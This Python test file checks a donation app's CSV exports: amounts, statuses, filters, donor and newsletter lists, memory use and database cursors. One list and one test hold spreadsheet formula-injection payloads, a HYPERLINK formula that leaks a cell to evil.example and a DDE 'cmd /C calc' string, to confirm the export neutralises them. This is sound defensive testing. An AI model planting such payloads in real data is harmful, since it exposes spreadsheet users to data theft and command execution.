import csv
import io
import itertools
import tracemalloc
from collections.abc import Iterable
from datetime import UTC, date, datetime

import pytest
from sqlalchemy import String, insert, literal, select, text

from campaigns.db import unit_of_work
from campaigns.extensions import db as _db
from campaigns.models import (
    DisputeStatus,
    Donation,
    DonationStatus,
    Frequency,
    PaymentMethod,
)
from campaigns.money import major_text
from campaigns.reports.exports import (
    DONATION_HEADER,
    donations_csv,
    donors_csv,
    money,
    newsletter_csv,
    spreadsheet_safe,
)
from campaigns.reports.filters import DonationFilter, ShownStatus, shown_status
from tests.databases import is_postgres
from tests.factories import make_campaign, start_gift
from tests.reports.gifts import dispute, paid_gift, refund

NOV_20 = datetime(2026, 11, 20, 15, 30, tzinfo=UTC)


def parse(chunks: Iterable[str]) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO("".join(chunks))))


def offline_gift(campaign, **fields) -> Donation:
    values = {
        "campaign_id": campaign.id,
        "amount": 10_000,
        "currency": campaign.currency,
        "frequency": Frequency.ONE_TIME,
        "status": DonationStatus.PAID,
        "method": PaymentMethod.CHECK,
        "reference": "Check #1042",
        "name": "Dee Offline",
        "email": "dee@example.org",
        "source": "offline",
        "paid_at": NOV_20,
        "created_at": NOV_20,
        "counted": True,
        "counted_amount": 10_000,
    }
    values.update(fields)
    with unit_of_work() as session:
        donation = Donation(**values)
        session.add(donation)
    return donation


def test_a_line_per_gift_with_amounts_statuses_dates_and_links(app, db) -> None:
    campaign = make_campaign()
    ann = paid_gift(
        campaign,
        2500,
        name="Ann Example",
        email="ann@example.org",
        cover_fees=True,
        newsletter=True,
        source="banner",
        variant="b",
        created_at=NOV_20,
    )
    bo = paid_gift(campaign, 10_000, name="Bo Partial", email="bo@example.org", anonymous=True)
    refund(bo, 2550)
    cy = start_gift(campaign, 5000, name="Cy Pending", email="cy@example.org")
    dee = offline_gift(campaign)

    header, *_ = "".join(donations_csv(DonationFilter())).splitlines()
    assert header == ",".join(DONATION_HEADER)
    rows = {int(row["id"]): row for row in parse(donations_csv(DonationFilter()))}
    assert list(rows) == sorted([ann.id, bo.id, cy.id, dee.id])

    first = rows[ann.id]
    total = 2500 + ann.fee_amount
    assert ann.fee_amount > 0
    assert first["amount"] == "25"
    assert first["fee"] == major_text(ann.fee_amount, "usd")
    assert first["total"] == first["net"] == major_text(total, "usd")
    assert (first["refunded"], first["currency"]) == ("0", "usd")
    assert (first["status"], first["frequency"], first["method"]) == ("paid", "one_time", "card")
    assert first["created_at"] == first["paid_at"] == "2026-11-20T15:30:00Z"
    assert (first["campaign"], first["name"], first["email"]) == (
        "eoy-test",
        "Ann Example",
        "ann@example.org",
    )
    assert (first["newsletter"], first["anonymous"]) == ("yes", "no")
    assert (first["source"], first["variant"]) == ("banner", "b")
    assert first["donor_id"] == str(ann.donor_id)
    assert first["stripe_payment_intent"] == f"pi_test_{ann.id}"
    assert first["stripe_link"] == f"https://dashboard.stripe.com/test/payments/pi_test_{ann.id}"

    partial = rows[bo.id]
    assert (partial["status"], partial["refunded"], partial["net"]) == (
        "partly_refunded",
        "25.50",
        "74.50",
    )
    assert partial["anonymous"] == "yes"
    assert partial["name"] == "Bo Partial"  # staff see real names; the flag is its own column

    pending = rows[cy.id]
    assert (pending["status"], pending["paid_at"], pending["net"]) == ("pending", "", "0")
    assert pending["stripe_link"] == pending["donor_id"] == ""

    check = rows[dee.id]
    assert (check["method"], check["reference"], check["stripe_link"]) == (
        "check",
        "Check #1042",
        "",
    )


def test_the_dashboard_link_follows_the_config(app, db) -> None:
    campaign = make_campaign()
    gift = paid_gift(campaign)
    app.config["STRIPE_DASHBOARD_URL"] = "https://dashboard.stripe.com"
    try:
        (row,) = parse(donations_csv(DonationFilter()))
    finally:
        app.config["STRIPE_DASHBOARD_URL"] = "https://dashboard.stripe.com/test"
    assert row["stripe_link"] == f"https://dashboard.stripe.com/payments/pi_test_{gift.id}"


HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rReturned",
]


def test_formulas_are_neutralised_in_text_cells_only(app, db) -> None:
    campaign = make_campaign()
    for index, hostile in enumerate(HOSTILE):
        paid_gift(
            campaign,
            1000 + index,
            name=hostile,
            email=f"h{index}@example.org",
            comment=hostile,
            dedication=hostile,
            source=hostile[:60],
            variant=hostile[:30],
        )
    rows = parse(donations_csv(DonationFilter()))
    assert len(rows) == len(HOSTILE)
    for row, hostile in zip(rows, HOSTILE, strict=True):
        for column in ("name", "comment", "dedication"):
            assert row[column] == "'" + hostile, column
        assert row["source"] == "'" + hostile[:60]
        assert row["variant"] == "'" + hostile[:30]
        for column in ("amount", "total", "net", "refunded", "fee"):
            assert not row[column].startswith("'")
    # The quotes, commas and line breaks inside a cell survive the round trip.
    assert rows[0]["name"] == "'" + HOSTILE[0]


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Ann = Bo", "Ann = Bo"),
        ("", ""),
        (None, None),
    ],
)
def test_spreadsheet_safe(app, db, text, safe) -> None:
    assert db.scalar(select(spreadsheet_safe(literal(text, String())))) == safe


@pytest.mark.parametrize(
    ("minor", "currency"),
    [(0, "usd"), (2500, "usd"), (2550, "usd"), (1, "usd"), (1234, "jpy"), (123456, "eur")],
)
def test_money_is_major_text(minor, currency) -> None:
    assert money(minor, currency) == major_text(minor, currency)


def test_filters_apply(app, db) -> None:
    spring = make_campaign(slug="spring-test")
    winter = make_campaign(slug="winter-test")
    early = paid_gift(spring, created_at=datetime(2026, 4, 2, 12, tzinfo=UTC), source="email")
    late = paid_gift(winter, created_at=datetime(2026, 12, 2, 12, tzinfo=UTC), source="banner")
    refunded = paid_gift(winter, created_at=datetime(2026, 12, 3, 12, tzinfo=UTC))
    refund(refunded)
    check = offline_gift(winter)

    def ids(criteria: DonationFilter) -> set[int]:
        return {int(row["id"]) for row in parse(donations_csv(criteria))}

    assert ids(DonationFilter(campaign_id=spring.id)) == {early.id}
    assert ids(DonationFilter(source="banner")) == {late.id}
    assert ids(DonationFilter(status=ShownStatus.REFUNDED)) == {refunded.id}
    assert ids(DonationFilter(offline=True)) == {check.id}
    assert ids(DonationFilter(date_from=date(2026, 12, 1), date_to=date(2026, 12, 2))) == {late.id}


def test_status_column_reads_as_shown_status(app, db) -> None:
    campaign = make_campaign()
    combinations = itertools.product(list(DonationStatus), (0, 1000, 2500), list(DisputeStatus))
    with unit_of_work() as session:
        for status, refunded, disputed in combinations:
            session.add(
                Donation(
                    campaign_id=campaign.id,
                    amount=2500,
                    currency="usd",
                    frequency=Frequency.ONE_TIME,
                    status=status,
                    amount_refunded=refunded,
                    dispute_status=disputed,
                )
            )
    gifts = {gift.id: gift for gift in db.query(Donation)}
    rows = parse(donations_csv(DonationFilter()))
    assert len(rows) == len(gifts) == len(DonationStatus) * 3 * len(DisputeStatus)
    for row in rows:
        assert row["status"] == shown_status(gifts[int(row["id"])]).value


def test_donors_and_newsletter_exports(app, db) -> None:
    campaign = make_campaign()
    paid_gift(
        campaign,
        2500,
        name="Ann Example",
        email="Ann@Example.org",
        newsletter=True,
        created_at=datetime(2026, 11, 2, 9, tzinfo=UTC),
    )
    paid_gift(
        campaign,
        5000,
        name="Ann Example",
        email="ann@example.org",
        created_at=datetime(2026, 11, 9, 9, tzinfo=UTC),
    )
    paid_gift(campaign, 1000, name="=cmd|' /C calc'!A0", email="bo@example.org")

    donors = parse(donors_csv())
    assert [row["email"] for row in donors] == ["Ann@Example.org", "bo@example.org"]
    ann = donors[0]
    assert (ann["gifts"], ann["lifetime_total"], ann["currency"]) == ("2", "75", "usd")
    assert (ann["first_gift_at"], ann["last_gift_at"]) == (
        "2026-11-02T09:00:00Z",
        "2026-11-09T09:00:00Z",
    )
    assert ann["newsletter"] == "yes"
    assert donors[1]["name"] == "'=cmd|' /C calc'!A0"
    assert [row["email"] for row in parse(donors_csv("ANN"))] == ["Ann@Example.org"]
    assert [row["email"] for row in parse(donors_csv("calc"))] == ["bo@example.org"]

    (subscriber,) = parse(newsletter_csv())
    assert subscriber == {
        "email": "Ann@Example.org",
        "name": "Ann Example",
        "first_gift_at": "2026-11-02T09:00:00Z",
        "last_gift_at": "2026-11-09T09:00:00Z",
    }


def test_a_dispute_lost_shows_and_nets_to_zero(app, db) -> None:
    campaign = make_campaign()
    gift = paid_gift(campaign)
    dispute(gift, DisputeStatus.LOST)
    (row,) = parse(donations_csv(DonationFilter()))
    assert (row["status"], row["net"], row["total"]) == ("disputed", "0", "25")


def add_bulk_gifts(campaign, count: int) -> None:
    """Plain rows straight into the table: only the export's memory is under test."""
    rows = [
        {
            "campaign_id": campaign.id,
            "amount": 1000 * (1 + n % 7),
            "fee_amount": 0,
            "currency": "usd",
            "frequency": "one_time",
            "status": "paid",
            "counted": True,
            "counted_amount": 1000 * (1 + n % 7),
            "name": f"Donor Number {n}",
            "email": f"donor{n}@example.org",
            "comment": "A comment long enough to make each line weigh something " * 2,
            "created_at": NOV_20,
            "paid_at": NOV_20,
            "updated_at": NOV_20,
            "stripe_payment_intent_id": f"pi_bulk_{campaign.id}_{n}",
        }
        for n in range(count)
    ]
    _db.session.execute(insert(Donation), rows)


def export_peak(criteria: DonationFilter) -> tuple[int, int]:
    """(peak traced bytes, bytes of CSV) while consuming the whole export."""
    tracemalloc.start()
    try:
        size = 0
        for chunk in donations_csv(criteria):
            size += len(chunk)
        return tracemalloc.get_traced_memory()[1], size
    finally:
        tracemalloc.stop()


def test_memory_stays_flat_however_many_rows(app, db) -> None:
    small, big = make_campaign(slug="small"), make_campaign(slug="big")
    add_bulk_gifts(small, 2_000)
    add_bulk_gifts(big, 20_000)
    export_peak(DonationFilter(campaign_id=small.id))  # warm caches and compiled statements
    small_peak, small_size = export_peak(DonationFilter(campaign_id=small.id))
    big_peak, big_size = export_peak(DonationFilter(campaign_id=big.id))
    assert big_size > 9 * small_size
    # Ten times the rows, but about one batch in memory at a time either way.
    assert big_peak < 1.5 * small_peak, (small_peak, big_peak)


@pytest.mark.skipif(not is_postgres(), reason="server-side cursors are PostgreSQL's")
def test_rows_come_from_a_server_side_cursor(app, db) -> None:
    campaign = make_campaign()
    add_bulk_gifts(campaign, 5_000)
    chunks = donations_csv(DonationFilter())
    next(chunks)  # the header
    next(chunks)  # the first batch
    open_cursors = db.execute(text("SELECT count(*) FROM pg_cursors")).scalar()
    assert open_cursors == 1
    assert sum(1 for _ in chunks) >= 2
    assert db.execute(text("SELECT count(*) FROM pg_cursors")).scalar() == 0
